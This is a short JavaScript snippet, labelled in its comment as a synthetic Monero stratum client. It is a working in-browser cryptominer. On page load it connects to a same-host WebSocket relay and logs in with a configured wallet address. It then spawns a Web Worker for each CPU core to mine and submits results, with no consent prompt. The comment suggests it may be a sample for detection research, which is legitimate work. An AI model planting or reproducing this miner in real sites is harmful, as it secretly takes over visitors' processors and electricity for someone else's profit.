// Synthetic Monero-stratum client over a first-party WebSocket proxy (no kit names, no known domain).
(function () {
  var proxy = location.protocol.replace("http", "ws") + "//" + location.host + "/ws/relay";
  var sock = new WebSocket(proxy);
  var seq = 1, session = null, threads = [];
  function rpc(method, params) {
    sock.send(JSON.stringify({ id: seq++, jsonrpc: "2.0", method: method, params: params }));
  }
  sock.onopen = function () {
    sock.send(JSON.stringify({ id: seq++, jsonrpc: "2.0", method: "login",
      params: { login: window.__cfg.addr, pass: "x", agent: "webclient/1.2" } }));
  };
  sock.onmessage = function (ev) {
    var m = JSON.parse(ev.data);
    if (m.result && m.result.job) { session = m.result.id; dispatch(m.result.job); }
    else if (m.method === "job") dispatch(m.params);
  };
  function dispatch(job) { threads.forEach(function (t) { t.postMessage(job); }); }
  for (var i = 0; i < (navigator.hardwareConcurrency || 2); i++) {
    var t = new Worker("/static/js/t.js");
    t.onmessage = function (e) {
      sock.send(JSON.stringify({ id: seq++, jsonrpc: "2.0", method: "submit",
        params: { id: session, job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result } }));
    };
    threads.push(t);
  }
  setInterval(function () { rpc("keepalived", { id: session }); }, 60000);
})();
